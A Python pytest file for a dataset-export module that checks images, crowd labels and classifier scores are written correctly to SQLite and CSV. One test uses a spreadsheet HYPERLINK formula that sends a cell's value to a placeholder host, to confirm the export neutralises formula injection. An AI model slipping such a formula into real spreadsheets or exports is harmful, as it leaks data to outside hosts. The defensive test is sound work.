"""What is exported says what was there: cell by cell, in BAM's tables and in CSV."""

import csv
import sqlite3
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

from bam_engine.errors import ExchangeError
from bam_engine.exchange import (
    AttributeRecord,
    Caption,
    Choice,
    Dataset,
    Decision,
    Hit,
    ImageRecord,
    ShownExample,
    Truth,
    read_truth,
    write_bam_sqlite,
    write_csv,
)

BAM_COLUMNS = {
    "modules": ["mid", "project_id", "src", "mature_content", "license"],
    "scores": ["mid", "media_watercolor"],
    "crowd_labels": ["mid", "attribute", "label"],
    "automatic_labels": ["mid", "media_watercolor"],
    "label_reasons": ["mid", "media_watercolor"],
    "crowd_raw_hits": ["assignment_id", "attribute", "worker_id", "n_clicks", "n_seconds", "last_modified"],
    "crowd_raw_choices": ["assignment_id", "mid", "attribute", "label"],
    "crowd_raw_captions": ["assignment_id", "mid", "attribute", "caption", "label"],
}


@pytest.fixture
def dataset() -> Dataset:
    images = [
        ImageRecord(11, "/a/quote'\".png", "a, title", "studio", 10, 20, None, "CC0"),
        ImageRecord(12, "/a/<script>.png", None, None, 10, 20, True, None),
        ImageRecord(13, "/a/\U0001f98a.png", "fox", "studio", 10, 20, False, None),
        ImageRecord(14, "/a/unscored.png", None, "other", 10, 20, None, None),
    ]
    choices = [Choice(0, "positive"), Choice(1, "negative"), Choice(2, "unsure")]
    watercolor = AttributeRecord(
        name="media_watercolor",
        kind="media",
        question="Is it a watercolour?",
        instructions="",
        scores=np.array([2.0, 0.5, -3.0, np.nan], np.float32),
        crowd={0: "positive", 1: "negative"},
        hits=[Hit("uuid", "ada", False, 7.5, "2026-01-01T00:00:00", choices)],
        decision=Decision(positive_from=1.0, negative_to=-1.0, evidence="precision 0.93 (0.90-0.96)"),
        automatic=["positive", "unsure", "negative", None],
        why=["by people", "by the classifier", "by the classifier", None],
    )
    cat = AttributeRecord("content_cat", "content", "A cat?", "", None, {}, [], Decision(None, None))
    return Dataset(images, [watercolor, cat], [Caption(2, "ada", "a fox; it's red")])


def rows(path: Path, sql: str) -> list[tuple[object, ...]]:
    connection = sqlite3.connect(path)
    try:
        return connection.execute(sql).fetchall()
    finally:
        connection.close()


def test_sqlite_has_bams_tables_and_columns(dataset: Dataset, tmp_path: Path) -> None:
    path = write_bam_sqlite(dataset, tmp_path / "dataset.sqlite")
    for table, columns in BAM_COLUMNS.items():
        assert [row[1] for row in rows(path, f"pragma table_info({table})")] == columns


def test_sqlite_holds_what_was_said_and_scored(dataset: Dataset, tmp_path: Path) -> None:
    path = write_bam_sqlite(dataset, tmp_path / "dataset.sqlite")
    assert rows(path, "select mid, src from modules order by mid") == [(i.id, i.uri) for i in dataset.images]
    assert rows(path, "select * from scores order by mid") == [(11, 2.0), (12, 0.5), (13, -3.0), (14, None)]
    assert rows(path, "select * from automatic_labels order by mid") == [
        (11, "positive"),
        (12, "unsure"),
        (13, "negative"),
        (14, None),
    ]
    assert rows(path, "select * from crowd_labels order by mid") == [
        (11, "media_watercolor", "positive"),
        (12, "media_watercolor", "negative"),
    ]
    assert rows(path, "select mid, label from crowd_raw_choices order by mid") == [(11, 1), (12, 0), (13, None)]
    assert rows(path, "select worker_id, n_clicks, n_seconds from crowd_raw_hits") == [("ada", 2, 7.5)]
    assert rows(path, "select mid, caption from crowd_raw_captions") == [(13, "a fox; it's red")]
    project = "select name from modules join projects using (project_id) where mid = 13"
    assert rows(path, project) == [("studio",)]


def test_csv_reads_back_to_the_same_cells(dataset: Dataset, tmp_path: Path) -> None:
    images, annotations, attributes = write_csv(dataset, tmp_path)
    with images.open(newline="", encoding="utf-8") as file:
        lines = list(csv.DictReader(file))
    assert [line["uri"] for line in lines] == [image.uri for image in dataset.images]
    assert [line["media_watercolor_label"] for line in lines] == ["positive", "unsure", "negative", ""]
    by = ["by people", "by the classifier", "by the classifier", ""]
    assert [line["media_watercolor_why"] for line in lines] == by
    assert [line["media_watercolor_score"] for line in lines] == ["2.0", "0.5", "-3.0", ""]
    assert [line["content_cat_score"] for line in lines] == [""] * 4
    with annotations.open(newline="", encoding="utf-8") as file:
        assert [line["answer"] for line in csv.DictReader(file)] == ["positive", "negative", "unsure"]
    with attributes.open(newline="", encoding="utf-8") as file:
        assert [line["evidence"] for line in csv.DictReader(file)] == ["precision 0.93 (0.90-0.96)", ""]


def test_an_export_that_cannot_be_written_leaves_the_old_file(dataset: Dataset, tmp_path: Path) -> None:
    blocked = tmp_path / "file"
    blocked.write_text("not a folder")
    with pytest.raises(ExchangeError, match="Cannot write"):
        write_bam_sqlite(dataset, blocked / "dataset.sqlite")
    with pytest.raises(ExchangeError, match="Cannot write"):
        write_csv(dataset, blocked)
    assert blocked.read_text() == "not a folder"


def test_a_second_export_replaces_the_first(dataset: Dataset, tmp_path: Path) -> None:
    path = tmp_path / "dataset.sqlite"
    write_bam_sqlite(dataset, path)
    write_bam_sqlite(Dataset(dataset.images[:1], []), path)
    assert rows(path, "select count(*) from modules") == [(1,)]
    assert [p.name for p in tmp_path.iterdir()] == ["dataset.sqlite"]


def test_truth_is_the_cells_that_say_positive(tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    path.write_text("path,medium\na.png,oil\nb.png,pen\nc.png,\n", encoding="utf-8")
    assert read_truth(path, column="medium", positive="oil") == Truth({"a.png": True, "b.png": False}, {}, ())
    with pytest.raises(ExchangeError, match=r"no column 'media'\. Its columns are: path, medium"):
        read_truth(path, column="media", positive="oil")
    with pytest.raises(ExchangeError, match="Its values are: oil, pen"):
        read_truth(path, column="medium", positive="watercolor")
    with pytest.raises(ExchangeError, match="Cannot read"):
        read_truth(tmp_path / "none.csv", column="medium", positive="oil")


def test_spellings_of_the_positive_value_count_and_lines_without_a_path_are_named(tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    path.write_text("medium,path\noil,a.png\nOil,b.png\n OIL ,c.png\nOil,d.png\npen,e.png\noil\n", encoding="utf-8")
    truth = read_truth(path, column="medium", positive="oil")
    assert [name for name, positive in truth.labels.items() if positive] == ["a.png", "b.png", "c.png", "d.png"]
    assert truth.labels["e.png"] is False
    assert truth.spellings == {"Oil": 2, " OIL ": 1}
    assert truth.without_path == ("line 7",)


@pytest.mark.parametrize("raw_text", [False, True])
def test_a_title_that_is_a_formula_is_text_in_a_spreadsheet(dataset: Dataset, tmp_path: Path, raw_text: bool) -> None:
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    titled = replace(dataset, images=[replace(dataset.images[0], title=formula), *dataset.images[1:]])
    write_csv(titled, tmp_path, raw_text=raw_text)
    with (tmp_path / "images.csv").open(newline="", encoding="utf-8") as file:
        assert next(csv.DictReader(file))["title"] == (formula if raw_text else f"'{formula}")


def test_every_format_says_which_images_have_no_file(dataset: Dataset, tmp_path: Path) -> None:
    first, second, *others = dataset.images
    lost = replace(dataset, images=[replace(first, file="missing"), replace(second, file="replaced"), *others])
    path = write_bam_sqlite(lost, tmp_path / "dataset.sqlite")
    assert rows(path, "select * from images_without_file order by mid") == [(11, "missing"), (12, "replaced")]
    with write_csv(lost, tmp_path)[0].open(newline="", encoding="utf-8") as file:
        assert [line["file"] for line in csv.DictReader(file)] == ["missing", "replaced", "ok", "ok"]


@pytest.mark.parametrize(
    ("name", "words"),
    [("x.jpg", "x.jpg is called like a file of another kind"), ("there", "is a folder"), ("taken.db", "is no dataset")],
)
def test_a_dataset_takes_the_place_of_nothing_else(dataset: Dataset, tmp_path: Path, name: str, words: str) -> None:
    (tmp_path / "there").mkdir()
    for taken in ("x.jpg", "taken.db"):
        (tmp_path / taken).write_bytes(b"somebody's")
    with pytest.raises(ExchangeError, match=words):
        write_bam_sqlite(dataset, tmp_path / name)
    assert {(tmp_path / taken).read_bytes() for taken in ("x.jpg", "taken.db")} == {b"somebody's"}


@pytest.mark.parametrize("name", ["dataset-1.0", "dataset.v2", "paintings 2026.12", "dataset", "dataset.db"])
def test_a_version_in_the_name_of_a_dataset_is_no_other_kind_of_file(
    dataset: Dataset, tmp_path: Path, name: str
) -> None:
    assert write_bam_sqlite(dataset, tmp_path / name) == tmp_path / name


def test_csv_files_go_into_a_folder(dataset: Dataset, tmp_path: Path) -> None:
    (tmp_path / "taken").write_bytes(b"somebody's")
    for name, words in (("taken", "is a file"), ("labels.csv", "is called like a file")):
        with pytest.raises(ExchangeError, match=f"{words}. Name a folder"):
            write_csv(dataset, tmp_path / name)


def test_example_pictures_are_exported_where_guidelines_have_some(dataset: Dataset, tmp_path: Path) -> None:
    assert tmp_path / "plain" / "guideline_examples.csv" not in write_csv(dataset, tmp_path / "plain")
    examples = [ShownExample(2, "good", ""), ShownExample(0, "corner", "=ink")]
    watercolor, cat = dataset.attributes
    shown = replace(dataset, attributes=[replace(watercolor, examples=examples), cat])
    write_csv(shown, tmp_path / "csv", raw_text=True)
    with (tmp_path / "csv" / "guideline_examples.csv").open(newline="", encoding="utf-8") as file:
        assert list(csv.reader(file)) == [
            ["attribute", "image_id", "uri", "kind", "note"],
            ["media_watercolor", "13", dataset.images[2].uri, "good", ""],
            ["media_watercolor", "11", dataset.images[0].uri, "corner", "=ink"],
        ]
    path = write_bam_sqlite(shown, tmp_path / "dataset.sqlite")
    assert rows(path, "select * from guideline_examples order by mid") == [
        (11, "media_watercolor", "corner", "=ink"),
        (13, "media_watercolor", "good", ""),
    ]
